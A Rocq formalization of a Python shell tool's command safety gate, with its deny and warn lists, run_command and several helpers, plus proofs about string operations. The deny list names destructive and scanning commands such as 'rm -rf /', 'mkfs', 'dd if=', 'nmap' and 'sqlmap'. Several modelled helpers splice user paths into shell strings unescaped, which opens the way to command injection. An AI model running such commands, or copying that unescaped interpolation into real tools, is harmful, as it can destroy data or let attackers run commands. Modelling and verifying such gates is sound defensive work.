(** * Shell command tool (tools/tool_shell.py): command safety gate

    A shallow embedding of the command gatekeeper of [tool_shell.py]:
    the deny and warn classification ([_is_blocked], [_has_warnings]),
    the limits ([_get_timeout], [_get_max_output]), [run_command] and
    [create_folder], and the other helpers that build a command and hand
    it to [run_command]: [quick_search], [search_content], [list_folder]
    and [create_project_structure].

    Conventions of the embedding.
    - A Python [str] is a Rocq [string]; a character stands for the code
      point of the same number (0..255, the Latin-1 range), and the
      string operations below are those of Python on that range.
    - A Python [int] is a [Z].
    - The host (file system, platform name, the subprocess layer) is a
      record [World] of oracles; [subprocess.run] either completes or
      raises, which is the sum type [SpawnResult].
    - [os.path.expanduser] may raise (it does for a user name that holds
      a null byte); the oracle answers [None] then.  The source calls it
      outside every [try], so the exception escapes from the function
      that made the call: the outcome [Raises].
    - [run_command] gives its outcome, the string handed to the host or
      the escaping exception, together with the log of the calls it
      made to [subprocess.run]. *)

From Stdlib Require Import ZArith List Bool Ascii String Lia.
From Stdlib Require Import DecimalString.
Import ListNotations.

Open Scope string_scope.
Open Scope Z_scope.

(** ** Python string operations *)

Module PyStr.

(** One line feed, the character written [\n] in the source. *)
Definition LF : string := String "010"%char EmptyString.

(** [len(s)] *)
Definition len (s : string) : Z := Z.of_nat (String.length s).

(** Truth value of a string: [if s:] holds for non-empty strings. *)
Definition truthy (s : string) : bool :=
  match s with
  | EmptyString => false
  | String _ _ => true
  end.

(** [c.isspace()], the characters removed by [strip()]:
    code points 9..13, 28..32, 133 and 160. *)
Definition isspace (c : ascii) : bool :=
  let n := N_of_ascii c in
  ((9 <=? n) && (n <=? 13) || (28 <=? n) && (n <=? 32)
   || (n =? 133) || (n =? 160))%N.

(** [c.lower()]: A..Z and the capital letters 192..222 (without the
    multiplication sign 215) move up by 32. *)
Definition lower_char (c : ascii) : ascii :=
  let n := N_of_ascii c in
  if ((65 <=? n) && (n <=? 90)
      || (192 <=? n) && (n <=? 222) && negb (n =? 215))%N
  then ascii_of_N (n + 32)
  else c.

(** [s.lower()] *)
Fixpoint lower (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => String (lower_char c) (lower s')
  end.

(** [s.lstrip()] *)
Fixpoint lstrip (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => if isspace c then lstrip s' else s
  end.

(** [s.rstrip()] *)
Fixpoint rstrip (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' =>
      match rstrip s' with
      | EmptyString => if isspace c then EmptyString else String c EmptyString
      | String d r => String c (String d r)
      end
  end.

(** [s.strip()] *)
Definition strip (s : string) : string := rstrip (lstrip s).

(** [s.startswith(p)] *)
Fixpoint startswith (s p : string) : bool :=
  match p, s with
  | EmptyString, _ => true
  | String _ _, EmptyString => false
  | String a p', String b s' => Ascii.eqb a b && startswith s' p'
  end.

(** [p in s]: [p] occurs in [s] at some offset. *)
Fixpoint contains (p s : string) : bool :=
  startswith s p ||
  match s with
  | EmptyString => false
  | String _ s' => contains p s'
  end.

(** [sep.join(l)] *)
Fixpoint join (sep : string) (l : list string) : string :=
  match l with
  | [] => EmptyString
  | [x] => x
  | x :: rest => x ++ sep ++ join sep rest
  end.

(** The first [n] characters. *)
Fixpoint take (n : nat) (s : string) : string :=
  match n, s with
  | O, _ => EmptyString
  | S _, EmptyString => EmptyString
  | S n', String c s' => String c (take n' s')
  end.

(** [s[:n]]: a negative [n] counts from the end of the string. *)
Definition slice_to (s : string) (n : Z) : string :=
  if n <? 0 then take (Z.to_nat (Z.max 0 (len s + n))) s
  else take (Z.to_nat n) s.

(** [str(n)] of an integer, as an f-string prints it. *)
Definition str_of_int (n : Z) : string :=
  NilEmpty.string_of_int (Z.to_int n).

End PyStr.

Import PyStr.

(** ** Module-level constants *)

(** The built-in deny list.  The source holds it in a set; only
    membership is used, so the order of this list is immaterial. *)
Definition BLOCKED_COMMANDS : list string :=
  [ "rm -rf /"; "rm -rf /*"; "del /f /s /q c:\";
    "format"; "mkfs"; "dd if=";
    "shutdown"; "reboot"; "halt"; "init 0"; "init 6";
    "nmap"; "nikto"; "sqlmap"; "hydra";
    "sudo rm"; "sudo dd" ].

Definition WARN_PATTERNS : list string :=
  [ "sudo"; "admin"; "password"; "delete"; "remove" ].

(** ** Classification *)

(** [_is_blocked]: the loop returns [True] at the first deny pattern
    found in the lower-cased, stripped command. *)
Definition _is_blocked (command : string) : bool :=
  let cmd_lower := strip (lower command) in
  existsb (fun blocked => contains (lower blocked) cmd_lower) BLOCKED_COMMANDS.

(** The loop of [_has_warnings] over the remaining patterns. *)
Fixpoint warnings_loop (patterns : list string) (cmd_lower : string)
  : list string :=
  match patterns with
  | [] => []
  | pattern :: rest =>
      if contains pattern cmd_lower
      then ("Command contains '" ++ pattern ++ "'") :: warnings_loop rest cmd_lower
      else warnings_loop rest cmd_lower
  end.

(** [_has_warnings]: the command is lower-cased but not stripped. *)
Definition _has_warnings (command : string) : list string :=
  warnings_loop WARN_PATTERNS (lower command).

(** ** Configuration *)

Record Valves : Type := mkValves {
  default_timeout : Z;
  max_output_kb : Z;
  allow_sudo : bool;
  blocked_commands : string;
  default_working_dir : string
}.

(** [Valves()] with the declared field defaults. *)
Definition default_valves : Valves := {|
  default_timeout := 30;
  max_output_kb := 50;
  allow_sudo := false;
  blocked_commands := "rm -rf /,format,mkfs,dd if=,shutdown,reboot";
  default_working_dir := "/data/user-files"
|}.

(** [_get_timeout]: the valve is always present on [self.valves], so the
    [getattr] fallback to the module constant is never taken. *)
Definition _get_timeout (valves : Valves) (requested : Z) : Z :=
  let default := default_timeout valves in
  let timeout := if requested >? 0 then requested else default in
  Z.max 1 (Z.min 120 timeout).

(** [_get_max_output] *)
Definition _get_max_output (valves : Valves) : Z :=
  let kb := max_output_kb valves in
  kb * 1024.

(** ** The host *)

(** One call of [subprocess.run]: the argument vector, the timeout and
    the working directory ([None] is the current one).  The environment
    passed along is not recorded. *)
Record SpawnRequest : Type := mkSpawn {
  argv : list string;
  spawn_timeout : Z;
  cwd : option string
}.

(** What [subprocess.run] does: it completes with the two captured
    streams and a return code, or raises.  The constructors for
    exceptions follow the [except] clauses of [run_command], in their
    order; [RaiseException] is any other [Exception]. *)
Inductive SpawnResult : Type :=
| Completed (stdout stderr : string) (returncode : Z)
| RaiseTimeoutExpired
| RaiseFileNotFoundError (e : string)
| RaisePermissionError
| RaiseException (e : string).

Record World : Type := mkWorld {
  SYSTEM : string;                          (* platform.system() *)
  path_exists : string -> bool;             (* os.path.exists *)
  path_isdir : string -> bool;              (* os.path.isdir *)
  expanduser : string -> option string;     (* os.path.expanduser,
                                               [None] when it raises *)
  subprocess_run : SpawnRequest -> SpawnResult
}.

(** [_get_shell] *)
Definition _get_shell (w : World) : list string :=
  if String.eqb (SYSTEM w) "Windows" then
    if path_exists w "C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    then ["powershell"; "-NoProfile"; "-Command"]
    else ["cmd"; "/c"]
  else
    if path_exists w "/bin/bash"
    then ["/bin/bash"; "-c"]
    else ["/bin/sh"; "-c"].

(** ** run_command *)

(** How a call ends for its caller: it returns a string, or an
    exception escapes from it. *)
Inductive Outcome : Type :=
| Returns (text : string)
| Raises.

(** The outcome for the host and the calls made to [subprocess.run] on
    the way, oldest first. *)
Record Run : Type := mkRun {
  outcome : Outcome;
  spawned : list SpawnRequest
}.

(** Returning before any process is started. *)
Definition ret (s : string) : Run := {| outcome := Returns s; spawned := [] |}.

(** The warning prefix built from the list of warnings. *)
Definition warning_msg_of (warnings : list string) : string :=
  match warnings with
  | [] => EmptyString
  | _ :: _ => "[Warning: " ++ join "; " warnings ++ "]" ++ LF ++ LF
  end.

(** The two captured streams merged into one reported stream. *)
Definition merge_streams (stdout stderr : string) : string :=
  let output := EmptyString in
  let output := if truthy stdout then output ++ stdout else output in
  let output :=
    if truthy stderr then
      (if truthy output then output ++ LF ++ "--- stderr ---" ++ LF else output)
      ++ stderr
    else output in
  output.

Definition truncation_notice (max_out : Z) : string :=
  LF ++ LF ++ "[Output truncated at " ++ str_of_int max_out ++ " characters]".

Definition exit_code_marker (returncode : Z) : string :=
  LF ++ LF ++ "[Exit code: " ++ str_of_int returncode ++ "]".

(** The merged stream, or the placeholder when it is blank. *)
Definition reported_output (stdout stderr : string) : string :=
  let output := merge_streams stdout stderr in
  if truthy (strip output) then output
  else "(Command completed with no output)".

(** The cut at [max_out] characters with its notice. *)
Definition truncate_output (valves : Valves) (output : string) : string :=
  let max_out := _get_max_output valves in
  if len output >? max_out
  then slice_to output max_out ++ truncation_notice max_out
  else output.

(** The body of the [try] block after [subprocess.run] has completed. *)
Definition format_completed (valves : Valves) (warning_msg : string)
    (stdout stderr : string) (returncode : Z) : string :=
  let output := reported_output stdout stderr in
  let output := truncate_output valves output in
  let output :=
    if negb (returncode =? 0) then output ++ exit_code_marker returncode
    else output in
  warning_msg ++ output.

(** The path after the expansion of a leading [~]; [None] when
    [os.path.expanduser] raises. *)
Definition expand_home (w : World) (working_dir : string) : option string :=
  if startswith working_dir "~" then expanduser w working_dir
  else Some working_dir.

Definition run_command (valves : Valves) (w : World)
    (command working_dir : string) (timeout : Z) : Run :=
  if negb (truthy command) || negb (truthy (strip command)) then
    ret "Error: No command provided."
  else if _is_blocked command then
    ret "Error: This command is blocked for safety reasons."
  else
    let warnings := _has_warnings command in
    let warning_msg := warning_msg_of warnings in
    let cmd_timeout := _get_timeout valves timeout in
    let resolved :=
      if truthy working_dir then
        match expand_home w working_dir with
        | None => inl Raises
        | Some working_dir =>
            if path_isdir w working_dir then inr (Some working_dir)
            else inl (Returns ("Error: Working directory not found: "
                               ++ working_dir))
        end
      else inr None in
    match resolved with
    | inl early => {| outcome := early; spawned := [] |}
    | inr cwd =>
        let shell_cmd := _get_shell w in
        let full_cmd := (shell_cmd ++ [command])%list in
        let request :=
          {| argv := full_cmd; spawn_timeout := cmd_timeout; cwd := cwd |} in
        let out :=
          match subprocess_run w request with
          | Completed stdout stderr returncode =>
              format_completed valves warning_msg stdout stderr returncode
          | RaiseTimeoutExpired =>
              "Error: Command timed out after " ++ str_of_int cmd_timeout
              ++ " seconds."
          | RaiseFileNotFoundError e => "Error: Command not found - " ++ e
          | RaisePermissionError => "Error: Permission denied."
          | RaiseException e => "Error executing command: " ++ e
          end in
        {| outcome := Returns out; spawned := [request] |}
    end.

(** ** create_folder *)

Definition create_folder (valves : Valves) (w : World)
    (folder_path : string) (create_parents : bool) : Run :=
  let folder_path :=
    if negb (startswith folder_path "/")
    then "/data/projects/" ++ folder_path else folder_path in
  if negb (startswith folder_path "/data/user-files"
           || startswith folder_path "/data/projects") then
    ret "Error: Can only create folders in writable areas"
  else
    let flag := if create_parents then "-p" else EmptyString in
    run_command valves w
      ("mkdir " ++ flag ++ " '" ++ folder_path ++ "' && echo 'Folder created: "
       ++ folder_path ++ "'")
      EmptyString 0.

(** ** Configuration updates *)

Definition set_allow_sudo (valves : Valves) (b : bool) : Valves :=
  {| default_timeout := default_timeout valves;
     max_output_kb := max_output_kb valves;
     allow_sudo := b;
     blocked_commands := blocked_commands valves;
     default_working_dir := default_working_dir valves |}.

Definition set_blocked_commands (valves : Valves) (patterns : string) : Valves :=
  {| default_timeout := default_timeout valves;
     max_output_kb := max_output_kb valves;
     allow_sudo := allow_sudo valves;
     blocked_commands := patterns;
     default_working_dir := default_working_dir valves |}.

Definition set_max_output_kb (valves : Valves) (kb : Z) : Valves :=
  {| default_timeout := default_timeout valves;
     max_output_kb := kb;
     allow_sudo := allow_sudo valves;
     blocked_commands := blocked_commands valves;
     default_working_dir := default_working_dir valves |}.

(** ** Notions used to state the properties *)

(** The first character exists and is not white space. *)
Definition head_solid (p : string) : bool :=
  match p with
  | EmptyString => false
  | String c _ => negb (isspace c)
  end.

(** The last character exists and is not white space. *)
Fixpoint tail_solid (p : string) : bool :=
  match p with
  | EmptyString => false
  | String c EmptyString => negb (isspace c)
  | String _ p' => tail_solid p'
  end.

(** Lower case already, and solid at both ends. *)
Definition solid_lower (p : string) : bool :=
  String.eqb (lower p) p && head_solid p && tail_solid p.

(** The request [run_command] hands to [subprocess.run] when it gets
    that far. *)
Definition request_for (valves : Valves) (w : World)
    (command working_dir : string) (timeout : Z) : SpawnRequest :=
  {| argv := (_get_shell w ++ [command])%list;
     spawn_timeout := _get_timeout valves timeout;
     cwd := if truthy working_dir then expand_home w working_dir
            else None |}.

(** The working directory is absent, or its expansion does not raise
    and names a directory. *)
Definition working_dir_ok (w : World) (working_dir : string) : bool :=
  negb (truthy working_dir)
  || match expand_home w working_dir with
     | Some dir => path_isdir w dir
     | None => false
     end.

(** The message [_has_warnings] appends for a matched pattern. *)
Definition warning_for (pattern : string) : string :=
  "Command contains '" ++ pattern ++ "'".

(** ** A host to run examples on *)

(** The null character. *)
Definition NUL : string := String "000"%char EmptyString.

(** The part of a string before its first slash. *)
Fixpoint before_slash (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' =>
      if Ascii.eqb c "/" then EmptyString else String c (before_slash s')
  end.

(** The part of a string from its first slash on. *)
Fixpoint from_slash (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => if Ascii.eqb c "/" then s else from_slash s'
  end.

(** [os.path.expanduser] of a path that begins with [~], on a POSIX
    host whose one user is [root] with home [/root].  The user name
    runs up to the first slash: a null byte in it raises [ValueError],
    the empty name and [root] give the home, and any other name leaves
    the path as it is. *)
Definition posix_expanduser (p : string) : option string :=
  match p with
  | EmptyString => Some EmptyString
  | String _ rest =>
      let name := before_slash rest in
      if contains NUL name then None
      else if String.eqb name EmptyString || String.eqb name "root"
      then Some ("/root" ++ from_slash rest)
      else Some p
  end.

(** A POSIX host with [/bin/bash], the two writable areas as its only
    directories and [/root] as home; every command completes with the
    given result. *)
Definition posix_world (result : SpawnResult) : World := {|
  SYSTEM := "Linux";
  path_exists := fun p => String.eqb p "/bin/bash";
  path_isdir := fun p =>
    String.eqb p "/data/user-files" || String.eqb p "/data/projects";
  expanduser := posix_expanduser;
  subprocess_run := fun _ => result
|}.

(** A string of [n] copies of [c]. *)
Fixpoint replicate (n : nat) (c : ascii) : string :=
  match n with
  | O => EmptyString
  | S n' => String c (replicate n' c)
  end.

(** ** Further string operations *)

(** One double quote. *)
Definition DQ : string := String "034"%char EmptyString.

(** [c.isalnum()]: the digits and letters of the range 0..255, with the
    superscripts, fractions and ordinal indicators that Python counts
    among them. *)
Definition isalnum (c : ascii) : bool :=
  let n := N_of_ascii c in
  ((48 <=? n) && (n <=? 57) || (65 <=? n) && (n <=? 90)
   || (97 <=? n) && (n <=? 122)
   || (n =? 170) || (n =? 178) || (n =? 179) || (n =? 181)
   || (n =? 185) || (n =? 186) || (188 <=? n) && (n <=? 190)
   || (192 <=? n) && (n <=? 214) || (216 <=? n) && (n <=? 246)
   || (248 <=? n) && (n <=? 255))%N.

(** The string of the characters of [s] that satisfy [keep], the
    comprehension [(c for c in s if keep(c))] joined on the empty
    string. *)
Fixpoint filter_chars (keep : ascii -> bool) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' =>
      if keep c then String c (filter_chars keep s') else filter_chars keep s'
  end.

(** [s.split(sep)] for a separator of one character. *)
Fixpoint split_on (sep : ascii) (s : string) : list string :=
  match s with
  | EmptyString => [EmptyString]
  | String c s' =>
      if Ascii.eqb c sep then EmptyString :: split_on sep s'
      else
        match split_on sep s' with
        | [] => [String c EmptyString]
        | x :: rest => String c x :: rest
        end
  end.

(** ** quick_search and search_content *)

Definition quick_search (valves : Valves) (w : World)
    (query path file_type : string) : Run :=
  match expand_home w path with
  | None => {| outcome := Raises; spawned := [] |}
  | Some path =>
  if negb (path_exists w path) then ret ("Error: Path not found: " ++ path)
  else
    let cmd :=
      if String.eqb (SYSTEM w) "Windows" then
        let filter_ext :=
          if negb (String.eqb file_type "*") then "-Filter *." ++ file_type
          else EmptyString in
        "Get-ChildItem -Path " ++ DQ ++ path ++ DQ ++ " -Recurse " ++ filter_ext
        ++ " -ErrorAction SilentlyContinue | Where-Object { $_.Name -like "
        ++ DQ ++ "*" ++ query ++ "*" ++ DQ
        ++ " } | Select-Object -First 50 FullName, Length, LastWriteTime | Format-Table -AutoSize"
      else
        let ext_filter :=
          if negb (String.eqb file_type "*") then "-name '*." ++ file_type ++ "'"
          else EmptyString in
        "find '" ++ path ++ "' " ++ ext_filter ++ " -type f -iname '*" ++ query
        ++ "*' 2>/dev/null | head -50" in
    run_command valves w cmd EmptyString 0
  end.

Definition search_content (valves : Valves) (w : World)
    (pattern path file_type : string) : Run :=
  match expand_home w path with
  | None => {| outcome := Raises; spawned := [] |}
  | Some path =>
  if negb (path_exists w path) then ret ("Error: Path not found: " ++ path)
  else
    let cmd :=
      if String.eqb (SYSTEM w) "Windows" then
        let filter_ext :=
          if negb (String.eqb file_type "*") then "-Include *." ++ file_type
          else EmptyString in
        "Get-ChildItem -Path " ++ DQ ++ path ++ DQ ++ " -Recurse " ++ filter_ext
        ++ " -ErrorAction SilentlyContinue | Select-String -Pattern "
        ++ DQ ++ pattern ++ DQ
        ++ " | Select-Object -First 100 | Format-Table -AutoSize Path, LineNumber, Line"
      else
        let include :=
          if negb (String.eqb file_type "*")
          then "--include='*." ++ file_type ++ "'"
          else EmptyString in
        "grep -rn '" ++ pattern ++ "' '" ++ path ++ "' " ++ include
        ++ " 2>/dev/null | head -100" in
    run_command valves w cmd EmptyString 0
  end.

(** ** list_folder *)

(** The [ls] flags chosen from the two switches. *)
Definition list_flags (show_hidden details : bool) : string :=
  let flags := if details then "-la" else "-1" in
  let flags := if negb show_hidden && details then "-l" else flags in
  let flags := if details then flags ++ "h" else flags in
  flags.

Definition list_folder (valves : Valves) (w : World)
    (path : string) (show_hidden details : bool) : Run :=
  let flags := list_flags show_hidden details in
  let cmd := "ls " ++ flags ++ " '" ++ path ++ "' 2>/dev/null" in
  let result := run_command valves w cmd EmptyString 0 in
  match outcome result with
  | Raises => result
  | Returns text =>
      if contains "No such file or directory" text then
        {| outcome := Returns ("Error: Folder not found: " ++ path);
           spawned := spawned result |}
      else
        {| outcome :=
             Returns ("Contents of " ++ path ++ ":" ++ LF ++ LF ++ text);
           spawned := spawned result |}
  end.

(** ** create_project_structure *)

(** The [templates] dictionary, in the order of its keys. *)
Definition templates : list (string * list string) :=
  [ ("basic", ["src"; "docs"; "tests"; "config"]);
    ("python", ["src"; "src/__init__.py"; "tests"; "tests/__init__.py"; "docs";
                "config"; "scripts"; "requirements.txt"; "README.md";
                ".gitignore"]);
    ("web", ["src"; "src/components"; "src/pages"; "src/utils"; "public";
             "public/images"; "public/css"; "public/js"; "assets"; "docs";
             "README.md"]);
    ("nodejs", ["src"; "src/routes"; "src/controllers"; "src/models";
                "src/middleware"; "public"; "public/css"; "public/js";
                "config"; "tests"; "package.json"; "README.md"; ".gitignore"]);
    ("docker", ["app"; "app/src"; "config"; "scripts"; "data"; "logs";
                "docker-compose.yml"; "Dockerfile"; ".env.example";
                "README.md"]);
    ("data", ["data"; "data/raw"; "data/processed"; "data/external";
              "notebooks"; "models"; "models/trained"; "models/evaluation";
              "reports"; "reports/figures"; "src"; "src/data"; "src/features";
              "src/models"; "config"; "requirements.txt"; "README.md"]) ].

(** [templates[template]], [None] when the key is absent. *)
Fixpoint lookup_template (template : string)
    (table : list (string * list string)) : option (list string) :=
  match table with
  | [] => None
  | (name, structure) :: rest =>
      if String.eqb name template then Some structure
      else lookup_template template rest
  end.

(** [safe_name]: the letters, digits, [-] and [_] of the name, stripped. *)
Definition safe_name_of (project_name : string) : string :=
  strip (filter_chars
           (fun c => isalnum c || contains (String c EmptyString) "-_")
           project_name).

(** The commands one pass of the loop appends for [item]. *)
Definition item_commands (project_path item : string) : list string :=
  let full_path := project_path ++ "/" ++ item in
  if contains "." (last (split_on "/" item) EmptyString) then
    let parent := join "/" (removelast (split_on "/" full_path)) in
    ["mkdir -p '" ++ parent ++ "'"; "touch '" ++ full_path ++ "'"]
  else ["mkdir -p '" ++ full_path ++ "'"].

(** The commands the loop over the structure appends. *)
Fixpoint structure_commands (project_path : string) (structure : list string)
  : list string :=
  match structure with
  | [] => []
  | item :: rest =>
      List.app (item_commands project_path item)
               (structure_commands project_path rest)
  end.

Definition create_project_structure (valves : Valves) (w : World)
    (project_name template base_path : string) : Run :=
  let safe_name := safe_name_of project_name in
  if negb (truthy safe_name) then ret "Error: Invalid project name."
  else
    let project_path := base_path ++ "/" ++ safe_name in
    match lookup_template template templates with
    | None =>
        ret ("Error: Unknown template '" ++ template ++ "'. Available: "
             ++ join ", " (map fst templates))
    | Some structure =>
        let commands :=
          ("mkdir -p '" ++ project_path ++ "'")
            :: structure_commands project_path structure in
        let full_script := join " && " commands in
        let first := run_command valves w full_script EmptyString 0 in
        match outcome first with
        | Raises => first
        | Returns _ =>
            let verify_cmd :=
              "find '" ++ project_path ++ "' -type d 2>/dev/null | head -30" in
            let second := run_command valves w verify_cmd EmptyString 0 in
            match outcome second with
            | Raises =>
                {| outcome := Raises;
                   spawned := List.app (spawned first) (spawned second) |}
            | Returns structure_output =>
                {| outcome :=
                     Returns
                       ("Project '" ++ safe_name ++ "' created with '"
                        ++ template ++ "' template!" ++ LF ++ LF
                        ++ "Location: " ++ project_path ++ LF ++ LF
                        ++ "Structure:" ++ LF ++ structure_output);
                   spawned := List.app (spawned first) (spawned second) |}
            end
        end
    end.

(** ** Notions used to state further properties *)

(** Every character of the string satisfies the test. *)
Fixpoint all_chars (test : ascii -> bool) (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c s' => test c && all_chars test s'
  end.

(** A letter, a digit, [-] or [_]. *)
Definition name_char (c : ascii) : bool :=
  isalnum c || Ascii.eqb c "-" || Ascii.eqb c "_".

(** The keys of [templates]. *)
Definition template_names : list string :=
  ["basic"; "python"; "web"; "nodejs"; "docker"; "data"].

(** Some deny pattern occurs in the lower-cased text. *)
Definition mentions_blocked (text : string) : Prop :=
  exists blocked pre post,
    In blocked BLOCKED_COMMANDS /\ lower text = pre ++ blocked ++ post.

(** A host of the given platform on which every path exists and is a
    directory, with [/root] as home; every command gets the given
    result. *)
Definition open_world (system : string) (result : SpawnResult) : World := {|
  SYSTEM := system;
  path_exists := fun _ => true;
  path_isdir := fun _ => true;
  expanduser := posix_expanduser;
  subprocess_run := fun _ => result
|}.

(** ** The operations on concrete inputs *)

Example strip_blank : strip (" " ++ LF ++ "ls  -l " ++ LF) = "ls  -l".
Proof. reflexivity. Qed.

Example lower_mixed : lower "Rm -RF /Tmp_1" = "rm -rf /tmp_1".
Proof. reflexivity. Qed.

Example slice_from_end : slice_to "abcdef" (-2) = "abcd".
Proof. reflexivity. Qed.

Example slice_past_start : slice_to "ab" (-5) = EmptyString.
Proof. reflexivity. Qed.

Example str_of_negative : str_of_int (-9) = "-9".
Proof. reflexivity. Qed.

Example blocked_inside_word : _is_blocked "cat information.txt" = true.
Proof. reflexivity. Qed.

Example echo_hello :
  run_command default_valves (posix_world (Completed ("hello" ++ LF) EmptyString 0))
    "echo hello" EmptyString 0
  = {| outcome := Returns ("hello" ++ LF);
       spawned := [ {| argv := ["/bin/bash"; "-c"; "echo hello"];
                       spawn_timeout := 30; cwd := None |} ] |}.
Proof. reflexivity. Qed.

Example rm_rf_root :
  run_command default_valves (posix_world (Completed EmptyString EmptyString 0))
    "rm -rf /" EmptyString 0
  = ret "Error: This command is blocked for safety reasons.".
Proof. reflexivity. Qed.

Example both_streams_exit_7 :
  outcome (run_command default_valves (posix_world (Completed "out" "err" 7))
             "Sudo Remove x" "/data/projects" 0)
  = Returns
      ("[Warning: Command contains 'sudo'; Command contains 'remove']"
       ++ LF ++ LF ++ "out" ++ LF ++ "--- stderr ---" ++ LF ++ "err"
       ++ LF ++ LF ++ "[Exit code: 7]").
Proof. reflexivity. Qed.

(** A negative ceiling cuts from the end of the output. *)
Example negative_ceiling :
  outcome (run_command (set_max_output_kb default_valves (-1))
             (posix_world (Completed "hello" EmptyString 0))
             "ls" EmptyString 0)
  = Returns (LF ++ LF ++ "[Output truncated at -1024 characters]").
Proof. reflexivity. Qed.

(** ** Facts about the string operations *)

Section StringFacts.

Lemma append_empty_r (s : string) : s ++ EmptyString = s.
Proof. induction s as [|c s IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma append_assoc (a b c : string) : (a ++ b) ++ c = a ++ (b ++ c).
Proof. induction a as [|x a IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma length_append (a b : string) :
  String.length (a ++ b) = (String.length a + String.length b)%nat.
Proof. induction a as [|x a IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma len_append (a b : string) : len (a ++ b) = len a + len b.
Proof. unfold len. rewrite length_append. lia. Qed.

Lemma len_nonneg (s : string) : 0 <= len s.
Proof. unfold len. lia. Qed.

Lemma truthy_false (s : string) : truthy s = false <-> s = EmptyString.
Proof. destruct s; simpl; split; congruence. Qed.

Lemma truthy_append_l (a b : string) : truthy a = true -> truthy (a ++ b) = true.
Proof. destruct a; simpl; congruence. Qed.

Lemma startswith_cons (a b : ascii) (s p : string) :
  startswith (String b s) (String a p) = Ascii.eqb a b && startswith s p.
Proof. reflexivity. Qed.

(** [startswith] and [contains] against their meaning on strings. *)
Lemma startswith_spec (s p : string) :
  startswith s p = true <-> exists post, s = p ++ post.
Proof.
  revert s. induction p as [|a p IH]; intros s; simpl.
  - destruct s; split; eauto.
  - destruct s as [|b s].
    + split; [discriminate | intros [post H]; discriminate].
    + rewrite startswith_cons.
      destruct (Ascii.eqb_spec a b) as [<- | Hab]; cbn [andb].
      * rewrite IH. split; intros [post H].
        -- exists post. now rewrite H.
        -- injection H as H. eauto.
      * split; [discriminate | intros [post H]].
        injection H as H _. congruence.
Qed.

Lemma startswith_append (p post : string) : startswith (p ++ post) p = true.
Proof. apply startswith_spec. eauto. Qed.

Lemma contains_spec (p s : string) :
  contains p s = true <-> exists pre post, s = pre ++ p ++ post.
Proof.
  induction s as [|c s IH].
  - cbn [contains]. rewrite orb_false_r, startswith_spec. split.
    + intros [post H]. exists EmptyString, post. exact H.
    + intros [pre [post H]]. destruct pre; simpl in H; [eauto | discriminate].
  - cbn [contains]. rewrite orb_true_iff, startswith_spec, IH. split.
    + intros [[post H] | [pre [post H]]].
      * exists EmptyString, post. exact H.
      * exists (String c pre), post. simpl. now rewrite H.
    + intros [pre [post H]]. destruct pre as [|d pre]; simpl in H.
      * left. eauto.
      * right. injection H as _ H. eauto.
Qed.

Lemma contains_empty (p : string) :
  contains p EmptyString = true -> p = EmptyString.
Proof. destruct p; simpl; [reflexivity | discriminate]. Qed.

(** Lower-casing keeps white space white space and nothing else. *)
Lemma isspace_lower_char (c : ascii) : isspace (lower_char c) = isspace c.
Proof.
  destruct c as [[] [] [] [] [] [] [] []]; reflexivity.
Qed.

Lemma lower_lstrip (s : string) : lstrip (lower s) = lower (lstrip s).
Proof.
  induction s as [|c s IH]; simpl; [reflexivity|].
  rewrite isspace_lower_char. destruct (isspace c); [exact IH | reflexivity].
Qed.

Lemma lower_rstrip (s : string) : rstrip (lower s) = lower (rstrip s).
Proof.
  induction s as [|c s IH]; simpl; [reflexivity|].
  rewrite IH, isspace_lower_char.
  destruct (rstrip s); simpl; [destruct (isspace c)|]; reflexivity.
Qed.

Lemma lower_strip (s : string) : strip (lower s) = lower (strip s).
Proof. unfold strip. now rewrite lower_lstrip, lower_rstrip. Qed.

Lemma lower_truthy (s : string) : truthy (lower s) = truthy s.
Proof. destruct s; reflexivity. Qed.

End StringFacts.

(** ** Patterns that survive [strip] *)

Lemma contains_lstrip (p s : string) :
  head_solid p = true -> contains p s = true -> contains p (lstrip s) = true.
Proof.
  intros Hh. destruct p as [|a q]; [discriminate|]. cbn [head_solid] in Hh.
  induction s as [|c s IH]; [trivial|].
  cbn [lstrip]. destruct (isspace c) eqn:Hc; [|trivial].
  cbn [contains]. rewrite startswith_cons. intros H.
  apply orb_true_iff in H as [H | H]; [|auto].
  apply andb_true_iff in H as [H _]. apply Ascii.eqb_eq in H. subst c.
  rewrite Hc in Hh. discriminate.
Qed.

Lemma startswith_rstrip (p s : string) :
  tail_solid p = true -> startswith s p = true -> startswith (rstrip s) p = true.
Proof.
  revert s. induction p as [|a p IH]; intros s Ht H; [discriminate|].
  destruct s as [|b s]; [discriminate|].
  rewrite startswith_cons in H. apply andb_true_iff in H as [Hab H].
  destruct p as [|a' p].
  - cbn [tail_solid] in Ht. apply Ascii.eqb_eq in Hab. subst b.
    cbn [rstrip]. destruct (rstrip s).
    + destruct (isspace a); [discriminate|]. simpl. now rewrite Ascii.eqb_refl.
    + simpl. now rewrite Ascii.eqb_refl.
  - assert (Ht' : tail_solid (String a' p) = true) by exact Ht.
    specialize (IH s Ht' H). cbn [rstrip].
    destruct (rstrip s) as [|d r]; [discriminate|].
    cbn [startswith]. cbn [startswith] in IH. now rewrite Hab, IH.
Qed.

Lemma contains_rstrip (p s : string) :
  tail_solid p = true -> contains p s = true -> contains p (rstrip s) = true.
Proof.
  intros Ht. induction s as [|c s IH]; [trivial|].
  intros H. cbn [contains] in H. apply orb_true_iff in H as [H | H].
  - apply (startswith_rstrip _ _ Ht) in H.
    destruct (rstrip (String c s)); cbn [contains]; now rewrite H.
  - specialize (IH H). cbn [rstrip].
    destruct (rstrip s) as [|d r] eqn:Hr.
    + apply contains_empty in IH. subst p. discriminate.
    + cbn [contains]. cbn [contains] in IH. rewrite IH. apply orb_true_r.
Qed.

Lemma contains_strip (p s : string) :
  head_solid p = true -> tail_solid p = true ->
  contains p s = true -> contains p (strip s) = true.
Proof.
  intros Hh Ht H. unfold strip.
  apply contains_rstrip; [exact Ht|]. now apply contains_lstrip.
Qed.

